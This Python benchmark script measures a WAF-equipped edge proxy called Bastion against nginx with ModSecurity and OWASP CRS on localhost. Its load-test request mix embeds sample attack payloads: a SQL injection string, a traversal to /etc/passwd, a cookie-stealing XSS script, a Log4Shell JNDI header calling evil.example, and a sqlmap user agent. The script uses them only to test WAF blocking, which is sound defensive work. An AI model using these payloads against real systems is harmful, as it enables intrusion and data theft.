"""Edge + WAF throughput against nginx + ModSecurity + OWASP CRS (PL1), same machine, same run.

    python benchmarks/bench_edge.py [--duration 10] [--connections 50] [--threads 2]
                                    [--workers 1]

Installs wrk, nginx, libnginx-mod-http-modsecurity and modsecurity-crs with apt-get when
missing. Everything listens on 127.0.0.1:
  upstream        nginx answering a small static body (the app behind every proxy)
  nginx-plain     nginx reverse proxy, no WAF
  nginx-modsec    nginx reverse proxy + ModSecurity 3 + CRS 3.3 at paranoia level 1
  edge-plain      Bastion's edge listener without a web ACL
  edge-waf        Bastion's edge listener with a web ACL holding every AWS managed rule
                  group Bastion ships (CRS, KnownBadInputs, SQLi, Linux, Unix, PHP,
                  AdminProtection, IP reputation, anonymous IP) plus a rate rule
Configured through boto3 (ELBv2 + WAFv2) against `bastion serve`; the listeners run in a
separate `bastion edge serve` process. Each proxy gets the same number of worker processes
(`--workers`) and the same wrk request mix (benign GET/POST with query strings, cookies and
form bodies, plus ~20% attacks: SQLi, XSS, traversal, Log4Shell, scanner user agent).
Prints req/s, p50/p99 latency and the ratios, then the results as JSON.
"""

from __future__ import annotations

import argparse
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
import urllib.request
from pathlib import Path

import boto3

PACKAGES = {
    "wrk": "/usr/bin/wrk",
    "nginx": "/usr/sbin/nginx",
    "libnginx-mod-http-modsecurity": "/usr/share/nginx/modules/ngx_http_modsecurity_module.so",
    "modsecurity-crs": "/usr/share/modsecurity-crs/rules",
}

WRK_SCRIPT = r"""
local reqs = {}
local ua = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
local common = {["Host"] = "shop.example", ["User-Agent"] = ua,
                ["Accept"] = "text/html,application/xhtml+xml",
                ["Accept-Language"] = "en-US,en;q=0.5", ["Cookie"] = "session=abc123; theme=dark"}
local function add(method, path, body, extra)
  local h = {}
  for k, v in pairs(common) do h[k] = v end
  for k, v in pairs(extra or {}) do h[k] = v end
  if body then h["Content-Type"] = "application/x-www-form-urlencoded" end
  table.insert(reqs, wrk.format(method, path, h, body))
end
add("GET", "/")
add("GET", "/products?category=books&page=2&sort=price")
add("GET", "/static/app.js?v=1.2.3")
add("GET", "/search?q=blue+running+shoes&lang=en")
add("POST", "/login", "username=alice&password=correct-horse-battery")
add("GET", "/api/items/42?fields=name,price")
add("POST", "/comment", "post=17&text=Great+article%2C+thanks+for+sharing%21")
add("GET", "/account/orders?from=2024-01-01&to=2024-12-31")
add("GET", "/search?q=1%27%20OR%20%271%27%3D%271")
add("GET", "/view?file=../../../../etc/passwd")
add("GET", "/?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E")
add("GET", "/", nil, {["X-Api-Version"] = "${jndi:ldap://evil.example/a}"})
add("GET", "/about", nil, {["User-Agent"] = "sqlmap/1.7"})
local i = 0
request = function()
  i = i + 1
  return reqs[(i % #reqs) + 1]
end
"""

# ~ 8/13 benign, 5/13 attacks in rotation (wrk cycles the list)


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def wait_port(port: int, timeout: float = 30) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=0.5):
                return
        except OSError:
            time.sleep(0.05)
    raise RuntimeError(f"nothing listens on {port}")


def ensure_packages() -> None:
    missing = [pkg for pkg, path in PACKAGES.items() if not os.path.exists(path)]
    if not missing:
        return
    print(f"installing {' '.join(missing)} ...", flush=True)
    env = {**os.environ, "DEBIAN_FRONTEND": "noninteractive"}
    subprocess.run(["apt-get", "update"], check=True, env=env, stdout=subprocess.DEVNULL)
    subprocess.run(
        ["apt-get", "install", "-y", *missing], check=True, env=env, stdout=subprocess.DEVNULL
    )


def nginx_conf(root: Path, name: str, body: str, workers: int, modules: str = "") -> Path:
    conf = root / f"{name}.conf"
    conf.write_text(f"""
{modules}
worker_processes {workers};
daemon off;
pid {root}/{name}.pid;
error_log {root}/{name}.error.log error;
events {{ worker_connections 4096; }}
http {{
    access_log off;
    keepalive_requests 100000;
    {body}
}}
""")
    return conf


def start_nginx(conf: Path) -> subprocess.Popen:
    return subprocess.Popen(
        ["nginx", "-c", str(conf), "-p", str(conf.parent)],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )


def modsec_conf(root: Path) -> Path:
    conf = root / "modsec-main.conf"
    conf.write_text("""
SecRuleEngine On
SecRequestBodyAccess On
SecRequestBodyLimit 13107200
SecRequestBodyNoFilesLimit 131072
SecRequestBodyLimitAction Reject
SecResponseBodyAccess Off
SecAuditEngine Off
SecDebugLogLevel 0
SecArgumentSeparator &
SecCookieFormat 0
SecStatusEngine Off
Include /etc/modsecurity/crs/crs-setup.conf
Include /usr/share/modsecurity-crs/rules/*.conf
""")
    return conf


def proxy_block(port: int, upstream: int, extra: str = "") -> str:
    return f"""
    upstream app_{port} {{ server 127.0.0.1:{upstream}; keepalive 64; }}
    server {{
        listen 127.0.0.1:{port};
        {extra}
        location / {{
            proxy_pass http://app_{port};
            proxy_http_version 1.1;
            proxy_set_header Connection "";
            proxy_set_header Host $host;
            proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;
        }}
    }}"""


def run_wrk(port: int, args: argparse.Namespace, script: Path) -> dict:
    out = subprocess.run(
        [
            "wrk",
            f"-t{args.threads}",
            f"-c{args.connections}",
            f"-d{args.duration}s",
            "--latency",
            "-s",
            str(script),
            f"http://127.0.0.1:{port}/",
        ],
        check=True,
        capture_output=True,
        text=True,
    ).stdout
    rps = float(re.search(r"Requests/sec:\s+([\d.]+)", out).group(1))

    def latency(pct: str) -> float:
        m = re.search(rf"\s{pct}%\s+([\d.]+)(us|ms|s)\b", out)
        value, unit = float(m.group(1)), m.group(2)
        return value / 1000 if unit == "us" else value * 1000 if unit == "s" else value

    errors = re.search(r"Non-2xx or 3xx responses:\s+(\d+)", out)
    return {
        "rps": rps,
        "p50_ms": latency("50"),
        "p99_ms": latency("99"),
        "non_2xx": int(errors.group(1)) if errors else 0,
    }


def vis(name: str) -> dict:
    return {"SampledRequestsEnabled": True, "CloudWatchMetricsEnabled": True, "MetricName": name}


def configure_bastion(endpoint: str, upstream: int, plain_port: int, waf_port: int) -> None:
    kw = {
        "endpoint_url": endpoint,
        "region_name": "us-east-1",
        "aws_access_key_id": "test",
        "aws_secret_access_key": "test",
    }
    elb = boto3.client("elbv2", **kw)
    waf = boto3.client("wafv2", **kw)
    tg = elb.create_target_group(Name="app", Protocol="HTTP", Port=upstream, TargetType="ip")[
        "TargetGroups"
    ][0]["TargetGroupArn"]
    elb.register_targets(TargetGroupArn=tg, Targets=[{"Id": "127.0.0.1"}])
    arns = {}
    for name, port in (("plain", plain_port), ("waf", waf_port)):
        lb = elb.create_load_balancer(Name=name)["LoadBalancers"][0]["LoadBalancerArn"]
        elb.create_listener(
            LoadBalancerArn=lb,
            Protocol="HTTP",
            Port=port,
            DefaultActions=[{"Type": "forward", "TargetGroupArn": tg}],
        )
        arns[name] = lb
    groups = [
        g["Name"]
        for g in waf.list_available_managed_rule_groups(Scope="REGIONAL")["ManagedRuleGroups"]
    ]
    rules = [
        {
            "Name": f"AWS-{g}",
            "Priority": i,
            "Statement": {"ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": g}},
            "OverrideAction": {"None": {}},
            "VisibilityConfig": vis(g),
        }
        for i, g in enumerate(groups)
    ]
    rules.append(
        {
            "Name": "RateLimit",
            "Priority": len(rules),
            "Statement": {
                "RateBasedStatement": {
                    "Limit": 2_000_000_000,
                    "AggregateKeyType": "IP",
                    "EvaluationWindowSec": 300,
                }
            },
            "Action": {"Block": {}},
            "VisibilityConfig": vis("RateLimit"),
        }
    )
    acl = waf.create_web_acl(
        Name="bench",
        Scope="REGIONAL",
        DefaultAction={"Allow": {}},
        Rules=rules,
        VisibilityConfig=vis("bench"),
    )["Summary"]
    waf.associate_web_acl(WebACLArn=acl["ARN"], ResourceArn=arns["waf"])
    print(f"web ACL with {len(groups)} managed groups: {', '.join(groups)} + rate rule", flush=True)


def probe(port: int, path: str, headers: dict | None = None) -> int:
    req = urllib.request.Request(
        f"http://127.0.0.1:{port}{path}",
        headers={
            "User-Agent": "Mozilla/5.0 Firefox/128.0",
            "Host": "shop.example",
            **(headers or {}),
        },
    )
    try:
        with urllib.request.urlopen(req, timeout=5) as resp:
            return resp.status
    except urllib.error.HTTPError as err:
        return err.code


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--duration", type=int, default=10)
    parser.add_argument("--connections", type=int, default=50)
    parser.add_argument("--threads", type=int, default=2)
    parser.add_argument(
        "--workers",
        type=int,
        default=1,
        help="worker processes for every proxy (nginx and Bastion's edge)",
    )
    args = parser.parse_args()
    ensure_packages()
    root = Path(tempfile.mkdtemp(prefix="bench-edge-"))
    procs: list[subprocess.Popen] = []
    try:
        ports = {
            k: free_port()
            for k in ("upstream", "nginx-plain", "nginx-modsec", "edge-plain", "edge-waf", "api")
        }
        up = nginx_conf(
            root,
            "upstream",
            f"""
    server {{ listen 127.0.0.1:{ports["upstream"]};
             location / {{ default_type text/plain; return 200 "hello from the app\\n"; }} }}""",
            1,
        )
        plain = nginx_conf(
            root, "plain", proxy_block(ports["nginx-plain"], ports["upstream"]), args.workers
        )
        modsec = nginx_conf(
            root,
            "modsec",
            proxy_block(
                ports["nginx-modsec"],
                ports["upstream"],
                f"modsecurity on; modsecurity_rules_file {modsec_conf(root)};",
            ),
            args.workers,
            modules="load_module /usr/share/nginx/modules/ngx_http_modsecurity_module.so;",
        )
        for conf in (up, plain, modsec):
            procs.append(start_nginx(conf))
        for key in ("upstream", "nginx-plain", "nginx-modsec"):
            wait_port(ports[key])

        data = root / "bastion"
        env = {
            **os.environ,
            "BASTION_DATA_DIR": str(data),
            "BASTION_PORT": str(ports["api"]),
            "BASTION_LOG_LEVEL": "warning",
            "BASTION_EDGE_IN_SERVE": "0",
        }
        env.pop("BASTION_CONFIG", None)
        procs.append(
            subprocess.Popen(
                [sys.executable, "-m", "bastion.cli", "serve", "--dev"],
                env=env,
                stdout=subprocess.DEVNULL,
                stderr=subprocess.DEVNULL,
            )
        )
        endpoint = f"http://127.0.0.1:{ports['api']}"
        deadline = time.monotonic() + 60
        while True:
            try:
                urllib.request.urlopen(f"{endpoint}/_bastion/health", timeout=1)
                break
            except OSError:
                if time.monotonic() > deadline:
                    raise
                time.sleep(0.1)
        configure_bastion(endpoint, ports["upstream"], ports["edge-plain"], ports["edge-waf"])
        edge_cmd = [sys.executable, "-m", "bastion.gateway.edge_cli", "edge", "serve"]
        if args.workers > 1:
            edge_cmd += ["--workers", str(args.workers)]
        procs.append(
            subprocess.Popen(
                edge_cmd, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
            )
        )
        wait_port(ports["edge-plain"])
        wait_port(ports["edge-waf"])

        attack = "/search?q=1%27%20OR%20%271%27%3D%271"
        checks = {
            name: (probe(ports[name], "/"), probe(ports[name], attack))
            for name in ("nginx-plain", "nginx-modsec", "edge-plain", "edge-waf")
        }
        print("sanity (benign, SQLi):", checks, flush=True)
        assert checks["nginx-modsec"] == (200, 403) and checks["edge-waf"] == (200, 403)

        script = root / "mix.lua"
        script.write_text(WRK_SCRIPT)
        results = {}
        for name in ("nginx-plain", "edge-plain", "nginx-modsec", "edge-waf"):
            run_wrk(ports[name], argparse.Namespace(**{**vars(args), "duration": 2}), script)
            results[name] = run_wrk(ports[name], args, script)
            r = results[name]
            print(
                f"{name:14s} {r['rps']:>10.0f} req/s   p50 {r['p50_ms']:7.2f} ms   "
                f"p99 {r['p99_ms']:7.2f} ms   non-2xx {r['non_2xx']}",
                flush=True,
            )
        ratio_waf = results["edge-waf"]["rps"] / results["nginx-modsec"]["rps"]
        ratio_plain = results["edge-plain"]["rps"] / results["nginx-plain"]["rps"]
        print()
        print(
            f"edge+WAF / nginx+ModSecurity+CRS PL1 throughput: {ratio_waf:.2f}x"
            f" (target >= 3x) {'PASS' if ratio_waf >= 3 else 'FAIL'}"
        )
        print(f"edge without rules / nginx plain proxy throughput: {ratio_plain:.2f}x")
        print(
            f"p99: edge+WAF {results['edge-waf']['p99_ms']:.2f} ms vs ModSecurity "
            f"{results['nginx-modsec']['p99_ms']:.2f} ms"
        )
        print(
            json.dumps(
                {
                    "workers": args.workers,
                    "connections": args.connections,
                    "duration_s": args.duration,
                    "results": results,
                    "ratio_waf_vs_modsecurity": round(ratio_waf, 3),
                    "ratio_plain_vs_nginx": round(ratio_plain, 3),
                },
                indent=2,
            )
        )
        return 0
    finally:
        for proc in reversed(procs):
            if proc.poll() is None:
                proc.send_signal(signal.SIGTERM)
        for proc in procs:
            try:
                proc.wait(timeout=10)
            except subprocess.TimeoutExpired:
                proc.kill()
        shutil.rmtree(root, ignore_errors=True)


if __name__ == "__main__":
    sys.exit(main())
